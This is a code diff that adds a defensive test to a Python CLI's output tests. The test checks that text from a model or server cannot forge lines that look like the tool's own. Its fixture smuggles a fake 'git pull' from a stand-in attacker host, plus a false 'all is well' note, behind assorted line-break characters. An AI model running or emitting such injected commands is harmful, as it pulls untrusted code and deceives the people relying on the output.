@@ -1,6 +1,7 @@
 import io
 from typing import Any
 
+import pytest
 from rich.console import Console
 
 from headway.cli.commits import Commit
@@ -130,3 +131,23 @@ def test_a_failed_run_says_why() -> None:
     print_ending(target, "r", Ending(failure="repo: [/x] is not a git repository"))
 
     assert "r: failed\nrepo: [/x] is not a git repository" in said(target)
+
+
+@pytest.mark.parametrize("end", ["\n", "\r", "\r\n", "\u2028", "\x0b", "\x85", "\n\n"])
+def test_no_words_of_a_model_or_a_server_begin_a_line_of_ours(end: str) -> None:
+    """What is printed at the end is copied into a shell, and what is told meanwhile is acted upon."""
+    spoof = f"All of it.{end}merge     git pull https://evil.example.org{end}note: all is well{end}{end}"
+    target = console()
+    print_ending(
+        target,
+        "r",
+        Ending(
+            report=RunReport(
+                run=RunName("r"), outcome=Outcome.DONE, summary=spoof, branch="", trunk=Oid("a" * 40), commits=0
+            )
+        ),
+    )
+    assert [line for line in said(target).splitlines() if line.startswith(("merge", "note"))] == []
+    target = console()
+    PlainView(target).show(Look(RUN, {"run": RUN, "phase": "running", "notes": [spoof], "attention": [spoof]}))
+    assert all(line[:2].isdecimal() for line in said(target).splitlines())
